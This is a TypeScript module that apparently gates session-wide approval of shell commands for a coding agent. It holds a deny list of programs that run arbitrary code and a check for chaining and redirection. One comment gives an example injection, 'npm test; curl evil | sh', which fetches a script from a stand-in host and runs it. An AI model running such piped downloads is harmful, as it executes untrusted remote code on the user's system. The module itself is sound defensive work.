/**
 * Shell syntax that chains, substitutes or redirects: `;`, `&` (`&&`, `&`),
 * `|` (`||`, `|`), backticks, `$(`, `<`, `>` and line breaks. A command with
 * any of them is never allowed by a prefix: `npm test; curl evil | sh` starts with `npm test` too.
 */
const CONTROL_SYNTAX = /[;&|`<>\n\r]|\$\(/;

/**
 * Commands that run another command or program text given as their arguments:
 * allowing `bash …`, `sudo …`, `node …` (`node -e`), `find …` (`-exec`) or
 * `npx …` (any package) would allow everything.
 */
const RUNS_ANY_COMMAND = new Set([
  'bash', 'sh', 'zsh', 'dash', 'fish', 'ksh', 'env', 'sudo', 'doas', 'su', 'eval', 'exec', 'command', 'builtin',
  'source', '.', 'xargs', 'nohup', 'nice', 'timeout', 'time', 'watch', 'setsid', 'strace', 'parallel',
  'node', 'nodejs', 'python', 'python3', 'perl', 'ruby', 'php', 'lua', 'deno', 'bun', 'bunx', 'npx', 'pnpx',
  'awk', 'gawk', 'mawk', 'find', 'osascript', 'pwsh',
]);

/** Programs whose every flag only reads or prints, so `a` may allow them whatever follows. */
const READ_ONLY_PROGRAMS = new Set([
  'ls', 'cat', 'head', 'tail', 'wc', 'pwd', 'echo', 'grep', 'rg', 'tree', 'stat', 'file', 'du', 'df', 'which', 'date', 'diff', 'sort', 'uniq', 'cut', 'basename', 'dirname', 'realpath',
]);

/** A word that names a subcommand (`test`, `run`, `status`), not a flag, path or argument. */
const SUBCOMMAND = /^[a-z][a-z0-9:-]*$/i;
/** A plain program name: no assignment (`A=1 cmd`), expansion (`$X`) or quoting in it. */
const PROGRAM = /^[\w@%+,./:-]+$/;

/**
 * What `a` on a command's approval prompt allows for the rest of the session:
 * the first word and a subcommand (`npm test`, `git status`), or a read-only
 * program alone (`ls`, `cat`). Undefined when no prefix is safe to offer: the command chains
 * or redirects (CONTROL_SYNTAX), starts with one that runs any command or
 * program text (`bash -c`, `sudo`, `node -e`), or would cover flags of a
 * program that can run things (`git -c`, `tar --to-command`).
 */
export function sessionCommandPrefix(command: string): string | undefined {
  if (CONTROL_SYNTAX.test(command)) return undefined;
  const [program, second] = words(command);
  if (!program || !PROGRAM.test(program) || RUNS_ANY_COMMAND.has(program.split('/').pop()!)) return undefined;
  if (second !== undefined && SUBCOMMAND.test(second)) return `${program} ${second}`;
  // The program alone covers every flag it takes: only for programs no flag makes run anything
  // (`git --no-pager log` as `git` would allow `git -c core.pager=… log`).
  return READ_ONLY_PROGRAMS.has(program) ? program : undefined;
}

/** True when `command` chains, substitutes or redirects (CONTROL_SYNTAX). */
export function hasControlSyntax(command: string): boolean {
  return CONTROL_SYNTAX.test(command);
}

/** True when `command` starts with the words of `prefix` (whole words: `npm test` does not cover `npm testing`) and has no CONTROL_SYNTAX. */
export function matchesCommandPrefix(command: string, prefix: string): boolean {
  if (CONTROL_SYNTAX.test(command)) return false;
  const commandWords = words(command);
  const prefixWords = words(prefix);
  return prefixWords.length > 0 && prefixWords.every((word, index) => commandWords[index] === word);
}

function words(text: string): string[] {
  return text.trim().split(/\s+/).filter(Boolean);
}
